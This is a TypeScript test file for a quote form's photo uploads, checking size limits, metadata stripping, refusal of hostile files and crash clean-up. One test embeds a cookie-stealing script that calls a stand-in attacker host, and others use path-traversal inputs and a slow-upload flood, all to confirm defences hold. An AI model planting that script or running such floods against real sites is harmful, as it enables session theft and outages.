import type { ServerType } from "@hono/node-server";
import { spawn, type ChildProcess } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { photoMessages } from "../../shared/forms/photo-check.ts";
import { PHOTO_LIMITS } from "../../shared/forms/photos.ts";
import { MAX_BODY_BYTES } from "./limits";
import { loadConfig } from "../config/config";
import { openQuoteStore, type QuoteStore } from "../quotes/db";
import { photoResponse } from "../quotes/photo-store";
import { parseHtml } from "../../test/support/server/dom";
import { startInbox, type TestConfig } from "../../test/support/server/app";
import { fixtureSite, tempDir } from "../../test/support/server/http";
import {
  deepInterlacedPng,
  executable,
  gpsOf,
  heicPhoto,
  jpegCarrying,
  jpegOfSize,
  phoneJpeg,
  pngBomb,
  pngCarrying,
  smallPng,
  smallWebp,
  svgWithScript,
  truncatedJpeg,
} from "../../test/support/server/images";

const MIB = 1024 * 1024;

const quoteFields = {
  form: "quote",
  name: "Mere Tipene",
  email: "mere@example.co.nz",
  phone: "021 555 0199",
  service: "Leak Detection",
  message: "Water stain on the ceiling under the bathroom",
  page: "/quote",
  website: "",
};

interface Upload {
  name: string;
  bytes: Buffer;
  type?: string;
}

const multipart = (fields: Record<string, string>, photos: Upload[] = []) => {
  const body = new FormData();
  for (const [name, value] of Object.entries(fields)) body.append(name, value);
  for (const photo of photos)
    body.append("photos", new Blob([new Uint8Array(photo.bytes)], { type: photo.type ?? "image/jpeg" }), photo.name);
  return body;
};

const entries = (dir: string) => (existsSync(dir) ? readdirSync(dir).length : 0);

/** Every quote and photo row, and every file in the data folder's photo folders. */
const stored = (store: QuoteStore) => ({
  quotes: store.count(),
  rows: store.list().flatMap((q) => store.photos.forQuote(q.id)).length,
  files: entries(store.photos.dir),
  temporary: entries(store.photos.temporary),
});

describe("photos with a quote, over HTTP", { timeout: 60_000 }, () => {
  let url: string;
  let store: QuoteStore;
  let photo: Buffer;
  let bomb: Buffer;
  const servers: ServerType[] = [];

  /** Asks for JSON, as the forms' upload does. */
  const post = (body: FormData, base = url, accept = "application/json") =>
    fetch(`${base}/api/quote`, { method: "POST", body, headers: { accept }, redirect: "manual" });
  const start = async (config: TestConfig = {}, store?: QuoteStore) => {
    const started = await startInbox({ config, replace: { store } });
    servers.push(started.server);
    return { url: started.url, store: started.parts.store };
  };

  beforeAll(async () => {
    ({ url, store } = await start());
    photo = await phoneJpeg();
    bomb = await pngBomb();
  });
  afterAll(() => {
    for (const s of servers) s.close();
  });

  /** Posts and expects a refusal with `status` and nothing stored: no quote, no row, no file, no temporary file. */
  const refused = async (body: FormData, status: number, base = url, target = store) => {
    const before = stored(target);
    const res = await post(body, base);
    expect(res.status).toBe(status);
    expect(stored(target)).toEqual(before);
    return (await res.json()) as { errors?: Record<string, string>; error?: string };
  };

  describe("limits, at and past each boundary", () => {
    test("5 photos are taken; a 6th refuses the quote (400), with the form's words", async () => {
      const before = stored(store);
      const five = Array.from({ length: 5 }, (_, i) => ({ name: `leak-${i}.jpg`, bytes: photo }));
      const res = await post(multipart(quoteFields, five));
      expect(res.status).toBe(201);
      const { id } = (await res.json()) as { id: number };
      expect(store.photos.forQuote(id).map((p) => p.position)).toEqual([1, 2, 3, 4, 5]);
      expect(stored(store)).toMatchObject({
        quotes: before.quotes + 1,
        rows: before.rows + 5,
        files: before.files + 5,
      });

      const six = [...five, { name: "leak-5.jpg", bytes: photo }];
      const body = await refused(multipart(quoteFields, six), 400);
      expect(body.errors).toEqual({ photos: photoMessages.tooMany(PHOTO_LIMITS) });
    });

    test("a photo of exactly 10 MB is taken; 10 MB + 1 byte is refused (413)", async () => {
      const exact = await jpegOfSize(10 * MIB);
      expect((await post(multipart(quoteFields, [{ name: "exact.jpg", bytes: exact }]))).status).toBe(201);
      const over = await jpegOfSize(10 * MIB + 1);
      const body = await refused(multipart(quoteFields, [{ name: "over.jpg", bytes: over }]), 413);
      expect(body.errors).toEqual({ photos: photoMessages.tooLarge("over.jpg", PHOTO_LIMITS) });
      expect(body.errors!.photos).toBe("“over.jpg” is larger than 10 MB. Please choose a smaller photo.");
    });

    test("photos totalling exactly the limit are taken; one byte more is refused (413)", async () => {
      const limits = { ...PHOTO_LIMITS, maxTotalBytes: 12 * MIB };
      const small = await start({ photos: limits });
      const six = await jpegOfSize(6 * MIB);
      const ok = await post(
        multipart(quoteFields, [
          { name: "a.jpg", bytes: six },
          { name: "b.jpg", bytes: six },
        ]),
        small.url,
      );
      expect(ok.status).toBe(201);
      const sixAndOne = await jpegOfSize(6 * MIB + 1);
      const body = await refused(
        multipart(quoteFields, [
          { name: "a.jpg", bytes: six },
          { name: "b.jpg", bytes: sixAndOne },
        ]),
        413,
        small.url,
        small.store,
      );
      expect(body.errors).toEqual({ photos: photoMessages.totalTooLarge(limits) });
    });

    test("text fields: 16 KB in all is read (then validated); one byte more is refused (413)", async () => {
      // Every field's name and value together come to exactly MAX_BODY_BYTES: read, then refused by the schema
      // (a 16 KB name is too long); one byte more is refused while reading.
      const others = Object.entries(quoteFields).filter(([k]) => k !== "name");
      const othersBytes = others.reduce((sum, [k, v]) => sum + k.length + Buffer.byteLength(v), 0);
      const atLimit = { ...quoteFields, name: "x".repeat(MAX_BODY_BYTES - "name".length - othersBytes) };
      const read = await refused(multipart(atLimit, [{ name: "a.jpg", bytes: photo }]), 400);
      expect(read.errors?.name).toMatch(/at most 200 characters/);
      const over = { ...atLimit, name: `${atLimit.name}x` };
      await refused(multipart(over, [{ name: "a.jpg", bytes: photo }]), 413);
    });

    test("a body past the largest allowed is cut off while streaming (413), declared or not", async () => {
      const declared = await fetch(`${url}/api/quote`, {
        method: "POST",
        headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(64 * MIB) },
        body: "--x--",
      }).catch(() => undefined);
      // Refused from the header alone: undici may see the early answer or a reset, never a 2xx.
      expect(declared === undefined || declared.status === 413).toBe(true);

      const before = stored(store);
      const boundary = "----limit";
      const head = `--${boundary}\r\nContent-Disposition: form-data; name="photos"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`;
      let sent = 0;
      const chunk = new Uint8Array(MIB);
      const stream = new ReadableStream<Uint8Array>({
        start(controller) {
          controller.enqueue(new TextEncoder().encode(head));
        },
        pull(controller) {
          // Never ends on its own: only the server's cap stops it (bounded here too, at 64 MB).
          if ((sent += chunk.length) > 64 * MIB) controller.close();
          else controller.enqueue(chunk);
        },
      });
      const res = await fetch(`${url}/api/quote`, {
        method: "POST",
        headers: { "content-type": `multipart/form-data; boundary=${boundary}`, accept: "application/json" },
        body: stream,
        duplex: "half",
      } as RequestInit).catch(() => undefined);
      expect(res === undefined || res.status === 413).toBe(true);
      expect(sent).toBeLessThan(40 * MIB);
      expect(stored(store)).toEqual(before);
    });
  });

  describe("hostile and broken files are refused with a clear 4xx, and nothing is stored", () => {
    test.each([
      ["a renamed executable", () => executable(), "photo.jpg", "image/jpeg", photoMessages.notAPhoto("photo.jpg")],
      ["an SVG with a script", () => svgWithScript(), "photo.png", "image/png", photoMessages.notAPhoto("photo.png")],
      ["a decompression bomb", () => bomb, "ceiling.png", "image/png", photoMessages.tooManyPixels("ceiling.png")],
      ["a truncated JPEG", () => truncatedJpeg(), "leak.jpg", "image/jpeg", photoMessages.unreadable("leak.jpg")],
      [
        "a HEIC photo (no HEVC decoder)",
        () => heicPhoto(),
        "IMG_0001.HEIC",
        "image/heic",
        photoMessages.heic("IMG_0001.HEIC"),
      ],
    ])("%s", async (_what, make, name, type, message) => {
      const bytes = await make();
      // Beside a good photo, so the refusal is for this file alone and the good one is not kept either.
      const body = await refused(
        multipart(quoteFields, [
          { name: "good.jpg", bytes: photo },
          { name, bytes, type },
        ]),
        400,
      );
      expect(body.errors).toEqual({ photos: message });
    });

    test("the type comes from the bytes: a real PNG called .jpg and sent as text/plain is taken", async () => {
      const res = await post(
        multipart(quoteFields, [{ name: "scan.jpg", bytes: await smallPng(), type: "text/plain" }]),
      );
      expect(res.status).toBe(201);
      const res2 = await post(multipart(quoteFields, [{ name: "scan", bytes: await smallWebp(), type: "" }]));
      expect(res2.status).toBe(201);
    });
  });

  test("what is stored is a new JPEG: upright, at most 2560 px, with no EXIF (no GPS), no XMP, no ICC", async () => {
    const original = await phoneJpeg({ width: 3200, height: 2400, orientation: 6 });
    const meta = await sharp(original).metadata();
    expect(gpsOf(meta.exif)).toEqual({ latitude: -36.85, longitude: 174.7633 });
    expect(meta.orientation).toBe(6);

    const res = await post(multipart(quoteFields, [{ name: "cylinder-label.jpg", bytes: original }]));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: number };
    const [row] = store.photos.forQuote(id);
    expect(row).toMatchObject({ content_type: "image/jpeg", width: 1920, height: 2560, position: 1 });
    const file = readFileSync(path.join(store.photos.dir, `${row!.id}.jpg`));
    expect(file.length).toBe(row!.bytes);
    expect(file.equals(original)).toBe(false);
    const kept = await sharp(file).metadata();
    expect(kept).toMatchObject({ format: "jpeg", width: 1920, height: 2560 });
    expect(kept.exif).toBeUndefined();
    expect(gpsOf(kept.exif)).toBeUndefined();
    expect(kept.xmp).toBeUndefined();
    expect(kept.icc).toBeUndefined();
    expect(kept.orientation).toBeUndefined();
    expect(file.includes(Buffer.from("TestPhone"))).toBe(false);
    expect(row!.id).toMatch(/^[A-Za-z0-9_-]{22}$/);
  });

  test("what is stored depends on the pixels alone: no uploaded byte outside them survives, anywhere in the data folder", async () => {
    // What a scanner would look for: a script hidden where an image decoder reads past it.
    const payload = Buffer.from(`<script>fetch("https://evil.example/" + document.cookie)</script>`);
    const jpeg = await phoneJpeg({ width: 640, height: 480 });
    const png = await smallPng();
    const uploads = [
      { name: "plain.jpg", bytes: jpeg },
      { name: "carrying.jpg", bytes: jpegCarrying(jpeg, payload) },
      { name: "plain.png", bytes: png, type: "image/png" },
      { name: "carrying.png", bytes: pngCarrying(png, payload), type: "image/png" },
    ];
    expect([uploads[1]!, uploads[3]!].every((upload) => upload.bytes.includes(payload))).toBe(true);
    const res = await post(multipart(quoteFields, uploads));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: number };
    const files = store.photos.forQuote(id).map((row) => readFileSync(path.join(store.photos.dir, `${row.id}.jpg`)));
    expect(files).toHaveLength(4);
    // Byte for byte the photo its plain twin became: nothing but the decoded pixels reached the stored file.
    expect(files[1]!.equals(files[0]!)).toBe(true);
    expect(files[3]!.equals(files[2]!)).toBe(true);
    expect(files[1]!.equals(uploads[1]!.bytes)).toBe(false);
    // Nor anywhere else: the database, its journal and the photo folders hold no trace of the payload.
    const everything = readdirSync(store.dataDir, { recursive: true, encoding: "utf8" })
      .map((name) => path.join(store.dataDir, name))
      .filter((file) => statSync(file).isFile());
    expect(everything.length).toBeGreaterThan(files.length);
    for (const file of everything) expect(readFileSync(file).includes(payload), file).toBe(false);
  });

  test("a quote without photos still goes as multipart: empty file parts are ignored", async () => {
    const body = multipart(quoteFields);
    body.append("photos", new Blob([], { type: "application/octet-stream" }), "");
    const res = await post(body);
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: number };
    expect(store.photos.forQuote(id)).toEqual([]);
  });

  describe("without JavaScript (the browser posts multipart and reads HTML)", () => {
    const postForm = (body: FormData) =>
      fetch(`${url}/api/quote`, { method: "POST", body, headers: { accept: "text/html" }, redirect: "manual" });

    test("a good post is stored with its photos and answered 303 to the confirmation page", async () => {
      const res = await postForm(
        multipart({ ...quoteFields, name: "Ana NoScript" }, [{ name: "a.jpg", bytes: photo }]),
      );
      expect(res.status).toBe(303);
      expect(res.headers.get("location")).toBe("/quote/submitted");
      const quote = store.list().find((q) => q.name === "Ana NoScript")!;
      expect(store.photos.forQuote(quote.id)).toHaveLength(1);
    });

    test("a photo problem answers the 400 page: every typed value kept, the problem listed, photos asked again", async () => {
      const before = stored(store);
      const typed = { ...quoteFields, name: "Wiremu <b>NoScript</b>", email: "not-an-email" };
      const res = await postForm(multipart(typed, [{ name: "virus.jpg", bytes: executable() }]));
      expect(res.status).toBe(400);
      expect(stored(store)).toEqual(before);
      const { document } = parseHtml(await res.text());
      const form = document.querySelector("form")!;
      expect(form.getAttribute("enctype")).toBe("multipart/form-data");
      expect(document.querySelector<HTMLInputElement>("#field-name")!.value).toBe("Wiremu <b>NoScript</b>");
      expect(document.querySelector<HTMLInputElement>("#field-email")!.value).toBe("not-an-email");
      const problems = [...document.querySelectorAll("[data-slot=error-summary] li")].map((li) => li.textContent);
      expect(problems).toContain(`Add photos: ${photoMessages.notAPhoto("virus.jpg")}`);
      const input = document.querySelector<HTMLInputElement>("#field-photos")!;
      expect(input.type).toBe("file");
      expect(input.getAttribute("aria-invalid")).toBe("true");
      expect(document.getElementById("field-photos-hint")!.textContent).toMatch(/choose your photos again/);
    });

    test("a body cut off at the limit answers a readable page (413)", async () => {
      const limits = { ...PHOTO_LIMITS, maxFileBytes: MIB, maxTotalBytes: MIB };
      const small = await start({ photos: limits });
      const res = await fetch(`${small.url}/api/quote`, {
        method: "POST",
        body: multipart(quoteFields, [{ name: "a.jpg", bytes: await jpegOfSize(3 * MIB) }]),
        headers: { accept: "text/html" },
      });
      expect(res.status).toBe(413);
      expect(await res.text()).toContain("Your photos are too large");
    });
  });

  test("uploads under way share a memory budget: past it, 503 with Retry-After", async () => {
    const tight = await start({ photos: { memoryBytes: 512 * 1024 } });
    const res = await post(multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]), tight.url);
    expect(res.status).toBe(503);
    expect(res.headers.get("retry-after")).toBe("30");
  });

  test("a decode takes its share of the same budget: room for the body but not the pixels is a 503", async () => {
    // 3000 × 2000 × 3 bytes decoded, times the measured overhead: about 27 MiB; the file itself is far smaller.
    const big = await phoneJpeg({ width: 3000, height: 2000 });
    const tight = await start({ photos: { memoryBytes: big.length + 4 * MIB } });
    const res = await post(multipart(quoteFields, [{ name: "a.jpg", bytes: big }]), tight.url);
    expect(res.status).toBe(503);
    const roomy = await start({ photos: { memoryBytes: big.length + 40 * MIB } });
    expect((await post(multipart(quoteFields, [{ name: "a.jpg", bytes: big }]), roomy.url)).status).toBe(201);
    // Everything taken was given back: the same server takes the next one too.
    expect((await post(multipart(quoteFields, [{ name: "b.jpg", bytes: big }]), roomy.url)).status).toBe(201);
  });

  test("a 16-bit, 4-channel, interlaced PNG of 7700 × 7700 is refused by its decoded size, before decoding", async () => {
    const deep = await deepInterlacedPng();
    expect(deep.length).toBeLessThan(MIB);
    let peak = process.memoryUsage().rss;
    const before = peak;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
    const body = await refused(multipart(quoteFields, [{ name: "tank.png", bytes: deep, type: "image/png" }]), 400);
    clearInterval(sampler);
    expect(body.errors).toEqual({ photos: photoMessages.tooManyPixels("tank.png") });
    // The 474 MB of pixels were never allocated.
    expect((peak - before) / MIB).toBeLessThan(64);
  });

  test("a slow-upload flood from one address cannot starve a photo quote from another", async () => {
    const slow = await start({ trustProxy: true, photos: { rateWindowMs: 400, minBytesPerSecond: 64 } });
    const boundary = "slowloris";
    /** One connection declaring a 30 MB upload, then trickling a byte at a time; resolves to the status it got. */
    const trickle = () =>
      new Promise<number>((resolve, reject) => {
        const { port } = new URL(slow.url);
        const socket = connect(Number(port), "127.0.0.1");
        let answer = "";
        const drip = setInterval(() => socket.write("x"), 250);
        socket.on("data", (d: Buffer) => {
          answer += d.toString("latin1");
          const status = /^HTTP\/1\.1 (\d{3})/.exec(answer);
          if (status) {
            clearInterval(drip);
            socket.destroy();
            resolve(Number(status[1]));
          }
        });
        socket.on("error", (error) => {
          clearInterval(drip);
          if (!answer) reject(error);
        });
        socket.write(
          `POST /api/quote HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 198.51.100.66\r\nAccept: application/json\r\n` +
            `Content-Type: multipart/form-data; boundary=${boundary}\r\nContent-Length: ${30 * MIB}\r\n\r\n` +
            `--${boundary}\r\nContent-Disposition: form-data; name="photos"; filename="slow.jpg"\r\n\r\n`,
        );
      });
    const flood = Array.from({ length: 9 }, trickle);
    const res = await fetch(`${slow.url}/api/quote`, {
      method: "POST",
      body: multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]),
      headers: { accept: "application/json", "x-forwarded-for": "198.51.100.77" },
    });
    expect(res.status).toBe(201);
    const statuses = await Promise.all(flood);
    // Two slots for the address; the rest are turned away at once, and the two are cut off for being too slow.
    expect(statuses.filter((s) => s === 503)).toHaveLength(7);
    expect(statuses.filter((s) => s === 400)).toHaveLength(2);
  });

  test("a quote whose transaction fails leaves no photo file behind", async () => {
    const dataDir = tempDir("photos-");
    const real = openQuoteStore(dataDir);
    const failing: QuoteStore = { ...real, save: () => Promise.reject(new Error("database is locked")) };
    const broken = await start({}, failing);
    const res = await post(multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]), broken.url);
    expect(res.status).toBe(500);
    expect(stored(real)).toEqual({ quotes: 0, rows: 0, files: 0, temporary: 0 });
  });

  describe("no public route serves photos or the data folder", () => {
    let id: string;
    beforeAll(async () => {
      const res = await post(multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]));
      id = store.photos.forQuote(((await res.json()) as { id: number }).id)[0]!.id;
    });
    const guesses = (photoId: string) => [
      `/api/photos/${photoId}`,
      `/api/quote/photos/${photoId}`,
      `/api/quote/${photoId}`,
      `/photos/${photoId}`,
      `/photos/${photoId}.jpg`,
      `/photos.tmp/`,
      `/data/photos/${photoId}.jpg`,
      `/data/quotes.db`,
      `/quotes.db`,
      `/${photoId}.jpg`,
      `/photos`,
      `/data/`,
    ];

    test("every guessable URL answers 404 (GET and HEAD)", async () => {
      for (const p of guesses(id)) {
        const res = await fetch(`${url}${p}`, { redirect: "follow" });
        expect({ p, status: res.status }).toEqual({ p, status: 404 });
        expect(res.headers.get("content-type")).not.toMatch(/^image\//);
        const head = await fetch(`${url}${p}`, { method: "HEAD" });
        expect(head.status === 404 || head.status === 308).toBe(true);
      }
    });

    test("even a data folder misplaced inside the site folder is never served, and the configuration refuses it", async () => {
      const siteDir = fixtureSite();
      const misplaced = await start({ siteDir, dataDir: path.join(siteDir, "data") });
      const inside = misplaced.store;
      const res = await post(multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]), misplaced.url);
      const photoId = inside.photos.forQuote(((await res.json()) as { id: number }).id)[0]!.id;
      for (const p of [`/data/photos/${photoId}.jpg`, "/data/quotes.db", "/data/quotes.db-wal"]) {
        expect((await fetch(`${misplaced.url}${p}`)).status).toBe(404);
      }
      expect(() => loadConfig({ SITE_DIR: siteDir, DATA_DIR: path.join(siteDir, "data") })).toThrow(
        /DATA_DIR: a folder outside SITE_DIR/,
      );
      expect(() => loadConfig({ SITE_DIR: siteDir, DATA_DIR: siteDir })).toThrow(/DATA_DIR/);
    });

    test("photoResponse, for the dashboard to mount behind its session: the bytes, safe headers; 404 otherwise", async () => {
      const res = photoResponse(store.photos, id);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("image/jpeg");
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("content-disposition")).toMatch(/^inline; filename="quote-\d+-photo-1\.jpg"$/);
      expect(res.headers.get("cache-control")).toBe("private, no-store");
      expect(res.headers.get("content-security-policy")).toContain("sandbox");
      expect((await sharp(Buffer.from(await res.arrayBuffer())).metadata()).format).toBe("jpeg");
      for (const bad of ["", "../quotes.db", `../photos/${id}`, "A".repeat(22), `${id}.jpg`, id.slice(1)]) {
        expect(photoResponse(store.photos, bad).status).toBe(404);
      }
    });
  });
});

describe("start-up sweep", () => {
  test("removes temporary files and photo files no row claims, and keeps committed ones", async () => {
    const dataDir = tempDir("sweep-");
    const store = openQuoteStore(dataDir);
    const placed = await store.photos.place([
      { bytes: await jpegOfSize(2048), width: 64, height: 48, contentType: "image/jpeg" },
    ]);
    const result = validateQuotePage();
    const id = await store.save(result, { userAgent: "test", photos: placed.photos });
    mkdirSync(store.photos.temporary, { recursive: true });
    writeFileSync(path.join(store.photos.temporary, "AAAAAAAAAAAAAAAAAAAAAA.jpg"), "half a photo");
    writeFileSync(path.join(store.photos.dir, "BBBBBBBBBBBBBBBBBBBBBB.jpg"), "placed, never committed");
    expect(store.photos.sweep()).toEqual({ temporary: 1, orphans: 1 });
    expect(readdirSync(store.photos.dir)).toEqual([`${store.photos.forQuote(id)[0]!.id}.jpg`]);
    expect(readdirSync(store.photos.temporary)).toEqual([]);
    store.close();
  });
});

function validateQuotePage() {
  return { ...quoteFields, form: "quote" as const, service: "Leak Detection" as const };
}

describe("a kill or an abort mid-upload leaves nothing behind", { timeout: 60_000 }, () => {
  const start = (dataDir: string, siteDir: string) =>
    new Promise<{ url: string; child: ChildProcess; output: () => string }>((resolve, reject) => {
      const child = spawn(process.execPath, ["server/main.ts"], {
        env: { ...process.env, PORT: "0", DATA_DIR: dataDir, SITE_DIR: siteDir, QUOTE_RATE_LIMIT: "0" },
        stdio: ["ignore", "pipe", "pipe"],
      });
      let out = "";
      child.stdout!.on("data", (c: Buffer) => {
        out += c.toString();
        const m = /http:\/\/localhost:(\d+)/.exec(out);
        if (m) resolve({ url: `http://127.0.0.1:${m[1]}`, child, output: () => out });
      });
      child.once("exit", (code) => reject(new Error(`exited ${code}: ${out}`)));
    });
  const stop = async (child: ChildProcess, signal: NodeJS.Signals) => {
    const exited = new Promise((r) => child.once("exit", r));
    child.kill(signal);
    await exited;
  };
  /** A multipart body as a browser would send it, for writing by hand, part by part. */
  const encode = async (body: FormData) => {
    const response = new Response(body);
    return { type: response.headers.get("content-type")!, bytes: Buffer.from(await response.arrayBuffer()) };
  };
  /** Sends the first half of `body` and keeps the connection open. */
  const halfUpload = async (url: string, body: FormData) => {
    const { type, bytes } = await encode(body);
    const req = request(`${url}/api/quote`, {
      method: "POST",
      headers: { "content-type": type, "content-length": bytes.length, accept: "application/json" },
    });
    req.on("error", () => {});
    await new Promise<void>((resolve) => req.write(bytes.subarray(0, bytes.length / 2), () => resolve()));
    return req;
  };
  const onDisk = (dataDir: string) => ({
    photos: existsSync(path.join(dataDir, "photos")) ? readdirSync(path.join(dataDir, "photos")).sort() : [],
    temporary: existsSync(path.join(dataDir, "photos.tmp")) ? readdirSync(path.join(dataDir, "photos.tmp")) : [],
  });

  test("kill -9 mid-upload: no quote, no row, no file; the next start sweeps what a crash between write and commit leaves", async () => {
    const dataDir = tempDir("kill-");
    const siteDir = fixtureSite();
    const photo = await phoneJpeg();
    const first = await start(dataDir, siteDir);
    const committed = await fetch(`${first.url}/api/quote`, {
      method: "POST",
      headers: { accept: "application/json" },
      body: multipart(quoteFields, [{ name: "kept.jpg", bytes: photo }]),
    });
    expect(committed.status).toBe(201);
    const kept = onDisk(dataDir).photos;
    expect(kept).toHaveLength(1);

    const photos = Array.from({ length: 3 }, (_, i) => ({ name: `p${i}.jpg`, bytes: photo }));
    await halfUpload(first.url, multipart({ ...quoteFields, name: "Cut Off" }, photos));
    await new Promise((r) => setTimeout(r, 300));
    await stop(first.child, "SIGKILL");
    expect(onDisk(dataDir)).toEqual({ photos: kept, temporary: [] });

    // What a kill between placing the files and committing the quote would leave: a temporary file, an orphan.
    writeFileSync(path.join(dataDir, "photos.tmp", "AAAAAAAAAAAAAAAAAAAAAA.jpg"), "half written");
    writeFileSync(path.join(dataDir, "photos", "BBBBBBBBBBBBBBBBBBBBBB.jpg"), "placed, never committed");
    const second = await start(dataDir, siteDir);
    await stop(second.child, "SIGTERM");
    expect(second.output()).toContain('"msg":"removed unfinished photo uploads","temporary":1,"orphans":1');
    expect(onDisk(dataDir)).toEqual({ photos: kept, temporary: [] });
    const store = openQuoteStore(dataDir);
    expect(store.list().map((q) => q.name)).toEqual([quoteFields.name]);
    expect(store.photos.forQuote(store.list()[0]!.id).map((p) => `${p.id}.jpg`)).toEqual(kept);
    store.close();
  });

  test("a visitor whose upload drops mid-way leaves nothing, and the server carries on", async () => {
    const dataDir = tempDir("abort-");
    const server = await start(dataDir, fixtureSite());
    try {
      const photo = await phoneJpeg();
      const req = await halfUpload(server.url, multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]));
      await new Promise((r) => setTimeout(r, 200));
      req.destroy();
      await new Promise((r) => setTimeout(r, 300));
      expect(onDisk(dataDir)).toEqual({ photos: [], temporary: [] });
      const next = await fetch(`${server.url}/api/quote`, {
        method: "POST",
        headers: { accept: "application/json" },
        body: multipart(quoteFields, [{ name: "a.jpg", bytes: photo }]),
      });
      expect(next.status).toBe(201);
      const store = openQuoteStore(dataDir);
      expect(store.count()).toBe(1);
      store.close();
    } finally {
      await stop(server.child, "SIGTERM");
    }
  });
});
